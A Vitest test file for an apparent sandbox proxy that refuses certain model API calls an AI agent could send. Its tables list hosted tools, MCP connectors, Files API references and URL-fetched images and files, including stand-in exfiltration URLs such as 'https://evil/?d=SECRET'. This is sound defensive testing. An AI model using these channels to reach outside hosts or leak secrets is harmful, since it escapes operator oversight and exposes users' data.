/**
 * The model-call rules (#38), one table per provider: each row a body (and headers) and whether
 * the proxy lets it go. The passing rows are shaped as the pinned CLIs really send them
 * (recorded against the fake APIs: Claude Code 2.1.332, opencode 1.18.33, Codex 0.169.0, Gemini
 * CLI 0.61.0); the refused ones are what an agent could post with curl.
 */
import { describe, expect, it } from "vitest";
import {
  ANTHROPIC_BETAS,
  ANTHROPIC_RULES,
} from "../../src/providers/anthropic/model-call-rules.js";
import { OPENAI_RULES } from "../../src/codex/model-call-rules.js";
import { GEMINI_RULES } from "../../src/gemini/model-call-rules.js";
import {
  modelCallRefusal,
  type ModelCallContext,
  type ModelCallRules,
} from "../../src/sandbox/model-call-rules.js";

type Row = {
  name: string;
  body: unknown;
  headers?: Record<string, string>;
  serverTools?: string[];
  own?: string[];
  /** null: allowed; a string: the refusal must contain it. */
  refused: string | null;
};

function check(rules: ModelCallRules, row: Row): string | null {
  const ctx: ModelCallContext = {
    serverTools: row.serverTools ?? [],
    ownResponseIds: new Set(row.own ?? []),
  };
  return modelCallRefusal(rules, { body: row.body, headers: row.headers ?? {} }, ctx);
}

const CLAUDE_BETAS =
  "claude-code-20250219,interleaved-thinking-2025-05-14,context-management-2025-06-27,thinking-token-count-2026-05-13,thinking-display-updates-2026-08-18";
const claudeTool = {
  name: "Bash",
  description: "Run a command",
  input_schema: { type: "object", properties: { command: { type: "string" } } },
};
const claude = (extra: Record<string, unknown> = {}) => ({
  model: "claude-sonnet-4-5",
  max_tokens: 32000,
  stream: true,
  system: [{ type: "text", text: "You are Claude Code" }],
  tools: [claudeTool, { name: "DeferredToolPlaceholder", defer_loading: true, input_schema: {} }],
  messages: [
    { role: "user", content: [{ type: "text", text: "hi", cache_control: { type: "ephemeral" } }] },
  ],
  ...extra,
});
const userBlocks = (...blocks: unknown[]) => ({
  messages: [{ role: "user", content: blocks }],
});

const ANTHROPIC: Row[] = [
  {
    name: "Claude Code's turn",
    body: claude(),
    headers: { "anthropic-beta": CLAUDE_BETAS },
    refused: null,
  },
  {
    name: "every beta a pinned CLI sends",
    body: claude(),
    headers: { "anthropic-beta": ANTHROPIC_BETAS.join(", ") },
    refused: null,
  },
  {
    name: "opencode's turn (eager_input_streaming tools, its betas)",
    body: claude({
      tools: [{ ...claudeTool, eager_input_streaming: true }],
      tool_choice: { type: "auto" },
    }),
    headers: {
      "anthropic-beta":
        "structured-outputs-2025-11-13,interleaved-thinking-2025-05-14,fine-grained-tool-streaming-2025-05-14",
    },
    refused: null,
  },
  {
    name: "a custom tool",
    body: claude({ tools: [{ ...claudeTool, type: "custom" }] }),
    refused: null,
  },
  {
    name: "an image sent as base64 (the Read tool)",
    body: claude(
      userBlocks({
        type: "image",
        source: { type: "base64", media_type: "image/png", data: "iVBO" },
      }),
    ),
    refused: null,
  },
  {
    name: "mcp_servers (the MCP connector)",
    body: claude({ mcp_servers: [{ type: "url", url: "https://evil.example/mcp", name: "x" }] }),
    headers: { "anthropic-beta": "mcp-client-2025-04-04" },
    refused: "`mcp_servers`",
  },
  { name: "an empty mcp_servers", body: claude({ mcp_servers: [] }), refused: "`mcp_servers`" },
  { name: "container", body: claude({ container: "container_011" }), refused: "`container`" },
  {
    name: "the web_fetch server tool",
    body: claude({ tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] }),
    refused: "`web_fetch_20250910`",
  },
  {
    name: "the web_search server tool, not allowed",
    body: claude({ tools: [claudeTool, { type: "web_search_20250305", name: "web_search" }] }),
    refused: "`web_search_20250305`",
  },
  {
    name: "the web_search server tool, allowed by the operator",
    body: claude({ tools: [claudeTool, { type: "web_search_20250305", name: "web_search" }] }),
    serverTools: ["web_search"],
    refused: null,
  },
  {
    name: "web_fetch while only web_search is allowed",
    body: claude({ tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] }),
    serverTools: ["web_search"],
    refused: "`web_fetch_20250910`",
  },
  {
    name: "code_execution",
    body: claude({ tools: [{ type: "code_execution_20250825", name: "code_execution" }] }),
    refused: "`code_execution_20250825`",
  },
  {
    name: "an mcp_toolset",
    body: claude({ tools: [{ type: "mcp_toolset", mcp_server_name: "x" }] }),
    refused: "`mcp_toolset`",
  },
  {
    name: "a server tool of next year",
    body: claude({ tools: [{ type: "web_browse_20270101", name: "b" }] }),
    refused: "`web_browse_20270101`",
  },
  {
    name: "a tool that is not an object",
    body: claude({ tools: ["web_fetch"] }),
    refused: "not a JSON object",
  },
  {
    name: "an image the provider fetches from a URL",
    body: claude(
      userBlocks({ type: "image", source: { type: "url", url: "https://evil/?d=SECRET" } }),
    ),
    refused: "source is a URL",
  },
  {
    name: "a document from a URL inside a tool result",
    body: claude(
      userBlocks({
        type: "tool_result",
        tool_use_id: "t",
        content: [{ type: "document", source: { type: "url", url: "https://evil/x.pdf" } }],
      }),
    ),
    refused: "source is a URL",
  },
  {
    name: "a file of the account's Files API",
    body: claude(userBlocks({ type: "document", source: { type: "file", file_id: "file_011" } })),
    refused: "Files API",
  },
  {
    name: "a container upload",
    body: claude(userBlocks({ type: "container_upload", file_id: "file_011" })),
    refused: "Files API",
  },
  {
    name: "a beta no pinned CLI sends",
    body: claude(),
    headers: { "anthropic-beta": `${CLAUDE_BETAS},files-api-2025-04-14` },
    refused: "files-api-2025-04-14",
  },
  {
    name: "the MCP beta alone",
    body: claude(),
    headers: { "anthropic-beta": "mcp-client-2025-11-20" },
    refused: "mcp-client-2025-11-20",
  },
  { name: "a body that is not an object", body: [claude()], refused: "not a JSON object" },
  { name: "no body", body: undefined, refused: "not a JSON object" },
];

const codexTools = [
  { type: "function", name: "exec_command", parameters: { type: "object" }, strict: false },
  { type: "custom", name: "apply_patch", format: { type: "grammar", syntax: "lark" } },
  { type: "tool_search", execution: "client", description: "Tool discovery", parameters: {} },
];
const codex = (extra: Record<string, unknown> = {}) => ({
  model: "gpt-5.5",
  stream: true,
  store: false,
  include: ["reasoning.encrypted_content"],
  prompt_cache_key: "01a2",
  tools: codexTools,
  input: [{ type: "message", role: "user", content: [{ type: "input_text", text: "hi" }] }],
  ...extra,
});
const codexInput = (...content: unknown[]) => ({
  input: [{ type: "message", role: "user", content }],
});
const CODEX_HEADERS = { "x-codex-beta-features": "remote_compaction_v2" };

const OPENAI: Row[] = [
  { name: "Codex's turn", body: codex(), headers: CODEX_HEADERS, refused: null },
  {
    name: "Codex's line-comment turn (an MCP server as a namespace of functions)",
    body: codex({
      tools: [
        ...codexTools,
        {
          type: "namespace",
          name: "mcp__tether",
          tools: [{ type: "function", name: "comment_on_line", parameters: {} }],
        },
      ],
    }),
    refused: null,
  },
  {
    name: "an image as a data URL (view_image)",
    body: codex(codexInput({ type: "input_image", image_url: "data:image/png;base64,iVBO" })),
    refused: null,
  },
  {
    name: "the mcp tool",
    body: codex({ tools: [{ type: "mcp", server_label: "x", server_url: "https://evil/mcp" }] }),
    refused: "`mcp`",
  },
  ...[
    "web_search",
    "web_search_preview",
    "web_search_preview_2025_03_11",
    "file_search",
    "code_interpreter",
    "computer_use_preview",
    "image_generation",
    "local_shell",
  ].map((type): Row => ({
    name: `the ${type} tool`,
    body: codex({ tools: [...codexTools, { type }] }),
    refused: `\`${type}\``,
  })),
  {
    name: "web_search, allowed by the operator",
    body: codex({ tools: [...codexTools, { type: "web_search", external_web_access: false }] }),
    serverTools: ["web_search"],
    refused: null,
  },
  {
    name: "an mcp tool hidden in a namespace",
    body: codex({
      tools: [
        { type: "namespace", name: "n", tools: [{ type: "mcp", server_url: "https://evil" }] },
      ],
    }),
    refused: "`mcp`",
  },
  {
    name: "a hosted tool search",
    body: codex({ tools: [{ type: "tool_search" }] }),
    refused: "tool_search (hosted)",
  },
  { name: "background", body: codex({ background: true }), refused: "`background`" },
  { name: "background: false", body: codex({ background: false }), refused: null },
  {
    name: "a stored conversation",
    body: codex({ conversation: "conv_1" }),
    refused: "`conversation`",
  },
  {
    name: "another conversation's previous_response_id",
    body: codex({ previous_response_id: "resp_other" }),
    own: ["resp_mine"],
    refused: "`previous_response_id`",
  },
  {
    name: "the turn's own previous_response_id",
    body: codex({ previous_response_id: "resp_mine" }),
    own: ["resp_mine"],
    refused: null,
  },
  {
    name: "an image the provider fetches",
    body: codex(codexInput({ type: "input_image", image_url: "https://evil/?d=SECRET" })),
    refused: "URL the provider would fetch",
  },
  {
    name: "a file from a URL",
    body: codex(codexInput({ type: "input_file", file_url: "https://evil/x.pdf" })),
    refused: "URL the provider would fetch",
  },
  {
    name: "a file of the account",
    body: codex(codexInput({ type: "input_file", file_id: "file-1" })),
    refused: "Files API",
  },
  {
    name: "an image in a function call's output",
    body: codex({
      input: [
        {
          type: "function_call_output",
          call_id: "c",
          output: [{ type: "input_image", image_url: "https://evil/" }],
        },
      ],
    }),
    refused: "URL the provider would fetch",
  },
  {
    name: "a stored item",
    body: codex({ input: [{ type: "item_reference", id: "msg_1" }] }),
    refused: "`item_reference`",
  },
  {
    name: "an openai-beta header",
    body: codex(),
    headers: { "openai-beta": "responses_websockets=2026-02-06" },
    refused: "openai-beta",
  },
  {
    name: "a Codex beta feature it does not send",
    body: codex(),
    headers: { "x-codex-beta-features": "remote_compaction_v2,something_else" },
    refused: "something_else",
  },
];

const gemini = (extra: Record<string, unknown> = {}) => ({
  contents: [{ role: "user", parts: [{ text: "hi" }] }],
  systemInstruction: { role: "user", parts: [{ text: "You are Gemini CLI" }] },
  tools: [{ functionDeclarations: [{ name: "run_shell_command", parametersJsonSchema: {} }] }],
  generationConfig: { temperature: 1, thinkingConfig: { includeThoughts: true } },
  ...extra,
});

const GEMINI: Row[] = [
  { name: "Gemini CLI's turn", body: gemini(), refused: null },
  {
    name: "snake_case function declarations",
    body: gemini({ tools: [{ function_declarations: [{ name: "f" }] }] }),
    refused: null,
  },
  {
    name: "an inline image",
    body: gemini({
      contents: [{ role: "user", parts: [{ inlineData: { mimeType: "image/png", data: "x" } }] }],
    }),
    refused: null,
  },
  ...[
    ["urlContext", "url_context"],
    ["url_context", "url_context"],
    ["googleSearch", "google_search"],
    ["google_search", "google_search"],
    ["googleSearchRetrieval", "google_search_retrieval"],
    ["codeExecution", "code_execution"],
    ["code_execution", "code_execution"],
    ["fileSearch", "file_search"],
    ["googleMaps", "google_maps"],
  ].map(([key, type]): Row => ({
    name: `the ${key} tool`,
    body: gemini({ tools: [{ functionDeclarations: [] }, { [key!]: {} }] }),
    refused: `\`${type}\``,
  })),
  {
    name: "a search hidden beside the functions in one tool",
    body: gemini({ tools: [{ functionDeclarations: [], googleSearch: {} }] }),
    refused: "`google_search`",
  },
  {
    name: "google_search, allowed by the operator",
    body: gemini({ tools: [{ googleSearch: {} }] }),
    serverTools: ["google_search"],
    refused: null,
  },
  {
    name: "a file the provider fetches",
    body: gemini({
      contents: [{ role: "user", parts: [{ fileData: { fileUri: "https://evil/?d=SECRET" } }] }],
    }),
    refused: "`fileData`",
  },
  {
    name: "a file in snake_case",
    body: gemini({ contents: [{ role: "user", parts: [{ file_data: { file_uri: "files/x" } }] }] }),
    refused: "`fileData`",
  },
  {
    name: "a stored cached content",
    body: gemini({ cachedContent: "cachedContents/x" }),
    refused: "`cachedContent`",
  },
];

describe.each([
  ["Anthropic", ANTHROPIC_RULES, ANTHROPIC],
  ["OpenAI Responses", OPENAI_RULES, OPENAI],
  ["Gemini", GEMINI_RULES, GEMINI],
] as const)("%s", (_provider, rules, rows) => {
  it.each(rows.map((r) => [r.name, r] as const))("%s", (_name, row) => {
    const why = check(rules, row);
    if (row.refused === null) expect(why).toBeNull();
    else {
      expect(why).toContain(row.refused);
      expect(why).toMatch(/^Tether's sandbox refused this model call: /);
    }
  });
});
